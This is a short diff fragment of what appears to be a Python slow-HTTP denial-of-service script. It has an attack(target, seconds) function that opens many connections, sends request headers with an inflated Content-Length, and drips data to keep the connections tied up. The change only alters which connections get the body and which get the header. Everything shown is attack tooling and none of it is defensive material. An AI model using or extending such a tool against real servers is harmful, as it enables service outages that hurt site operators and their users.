@@ -11,7 +11,7 @@ BODY = b"POST /v1/event HTTP/1.1\r\nHost: localhost\r\nContent-Length: 16000\r\n
 
 def attack(target, seconds):
     def opened(connection):
-        connection.send(BODY if crowd.made % 2 else HEAD)
+        connection.send(BODY if connection.number % 2 else HEAD)
 
     def drip(crowd):
         for connection in list(crowd.connections):
